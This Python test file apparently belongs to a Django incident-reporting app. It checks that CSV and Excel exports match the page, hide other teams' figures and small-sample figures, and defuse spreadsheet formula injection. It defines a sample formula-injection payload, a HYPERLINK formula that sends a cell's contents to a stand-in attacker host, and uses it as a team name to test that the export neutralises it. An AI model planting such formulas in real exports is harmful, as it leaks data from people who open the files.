"""The figures as files: the same numbers, and nothing in them that a spreadsheet would run."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from incidents.actions.roll_up import roll_up
from incidents.models import Membership, Team
from incidents.queries.figures.sheets import sheets
from incidents.rules.spreadsheet import defused
from tests.pages.past import Past

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.fixture
def shared(cast):
    """A few incidents, of a team whose name is a formula, too."""
    past = Past(cast)
    for _ in range(6):
        incident = past.logs()
        past.survey(incident, 4, 3)
        past.remedy(incident, "owed", 20)
        cast.talks(incident, at=incident.learned_at)
    team = Team.objects.create(name=EVIL)
    Membership.objects.create(user=cast.jonas, team=team, role="staff")
    cast.talks(cast.logs(cast.jonas, team=team), cast.jonas)
    roll_up(at=timezone.now())


def read_csv(answer):
    text = answer.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.usefixtures("shared")
def test_both_files_hold_what_the_page_shows(visit, cast):
    told = visit(cast.priya).get("/figures/", {"period": "4w"}).context["figures"]
    rows = read_csv(visit(cast.priya).get("/figures/figures.csv", {"period": "4w"}))
    book = load_workbook(
        io.BytesIO(visit(cast.priya).get("/figures/figures.xlsx", {"period": "4w"}).content)
    )
    tables = sheets(told)
    assert book.sheetnames == [sheet.name for sheet in tables]
    in_book = [
        [sheet.title, *row]
        for sheet in book.worksheets
        for row in list(sheet.iter_rows(values_only=True))[1:]
    ]
    wanted = [[sheet.name, *line.cells] for sheet in tables for line in sheet.lines]
    assert [list(map(plain, row)) for row in rows[1:]] == [list(map(plain, row)) for row in wanted]
    assert [list(map(plain, row)) for row in in_book] == [list(map(plain, row)) for row in wanted]
    by_name = {row[1]: row for row in rows if row[0] == "Figures"}
    assert by_name["Time to first response"][3:6] == ["0.0", "minutes", "7"]
    assert float(by_name["Noticed by ourselves"][3]) == 0
    money = next(row for row in rows if row[0] == "Money" and row[1] == "Owed")
    assert money[2:6] == ["EUR", "120.0", "EUR", "6"]
    change = next(row for row in rows if row[1] == "Change of satisfaction")
    assert (float(change[3]), change[5]) == (-1, "6")


def plain(cell):
    """A cell as a text, a number the same in whichever file."""
    try:
        return f"{float(cell):g}"
    except (TypeError, ValueError):
        return str(defused(cell) or "")


@pytest.mark.usefixtures("shared")
def test_a_name_that_is_a_formula_is_text_in_both(visit, cast):
    rows = read_csv(visit(cast.priya).get("/figures/figures.csv"))
    of = {row[2] for row in rows}
    assert f"'{EVIL}" in of
    assert EVIL not in of
    book = load_workbook(io.BytesIO(visit(cast.priya).get("/figures/figures.xlsx").content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert "'" + EVIL in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_what_would_be_a_formula_gets_an_apostrophe(begin):
    assert defused(f"{begin}1+1") == f"'{begin}1+1"


@pytest.mark.parametrize("cell", [-1.5, 0, None, "", "Late", "1 - 2", "a=b"])
def test_all_else_stays_as_it_is(cell):
    assert defused(cell) == cell


def test_what_rests_on_too_few_is_in_no_file(cast, visit):
    past = Past(cast)
    for _ in range(4):
        incident = past.logs(value_at_risk=777, currency="EUR", noticed_by="us")
        past.remedy(incident, "owed", 111)
        past.survey(incident, 4, 5)
        cast.talks(incident, at=incident.learned_at)
    roll_up(at=timezone.now())
    rows = read_csv(visit(cast.mara).get("/figures/figures.csv"))
    told = [row for row in rows[1:] if row[0] in ("Figures", "Promises", "Money")]
    told += [row for row in rows if row[0] == "What customers say"]
    counts = {"Exemplary moments", "Mistakes"}
    assert {row[3] for row in told if row[1] not in counts} == {""}
    assert "444" not in str(rows)


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_file_is_saved_under_a_name_that_says_what_it_tells(ending, cast, visit):
    answer = visit(cast.mara).get(f"/figures/figures.{ending}", {"period": "2026"})
    assert answer.status_code == 200
    assert answer["Content-Disposition"].startswith('attachment; filename="recovery-figures-2026-W')
    assert answer["Content-Disposition"].endswith(f'.{ending}"')
    assert answer["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_nobody_gets_another_team_s_figures_in_a_file(ending, cast, visit):
    for _ in range(6):
        cast.talks(cast.logs(cast.bea), cast.bea)
    roll_up(at=timezone.now())
    answer = visit(cast.mara).get(f"/figures/figures.{ending}", {"team": cast.billing.pk})
    told = answer.content.decode("utf-8-sig") if ending == "csv" else str(rows_of(answer))
    assert "Billing" not in told
    assert "Time to first response" in told
    if ending == "csv":
        headline = next(row for row in read_csv(answer) if row[1] == "Time to first response")
        assert headline[3:6] == ["", "minutes", "0"]


def rows_of(answer):
    book = load_workbook(io.BytesIO(answer.content))
    return [row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]
